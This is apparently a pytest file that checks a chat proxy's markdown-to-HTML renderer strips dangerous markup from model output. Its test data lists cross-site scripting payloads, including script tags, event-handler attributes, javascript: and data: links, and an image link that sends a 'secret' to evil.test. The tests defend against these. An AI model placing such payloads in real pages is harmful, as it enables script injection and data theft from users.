"""Model output becomes HTML that can do nothing."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatproxy.web.markdown import to_html


def test_markdown_is_rendered() -> None:
    html = to_html(
        "# Title\n\n- a\n- **b**\n\n```python\nx < 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nhttps://x.test"
    )
    for part in ("<h1>", "<li>", "<strong>b</strong>", "x &lt; 1", "<table>", '<a href="https://x.test"'):
        assert part in html
    assert 'rel="nofollow noopener noreferrer"' in html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.test/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        '[x](https://a.test "onmouseover=alert(1)")',
        "<a href='java\tscript:alert(1)'>x</a>",
        "<svg/onload=alert(1)>",
        "<<script>script>alert(1)</script>",
        "`<script>`",
    ],
)
def test_hostile_output_is_text(hostile: str) -> None:
    html = to_html(hostile)
    assert not re.search(r"<\s*(script|img|svg|iframe|style|object)", html, re.IGNORECASE)
    assert not re.search(r"<[^>]*(javascript:|data:|\son\w+\s*=)[^>]*>", re.sub(r'title="[^"]*"', "", html))


@given(st.text(alphabet="<>[]()!\"'`*_# \nscriptjavasrcdata:/=&;", max_size=80))
def test_only_known_tags_come_out(text: str) -> None:
    known = r"a|blockquote|br|code|del|em|h[1-6]|hr|li|ol|p|pre|strong|table|tbody|td|th|thead|tr|ul"
    assert all(re.fullmatch(known, tag) for tag in re.findall(r"<\s*/?\s*([a-zA-Z][\w-]*)", to_html(text)))
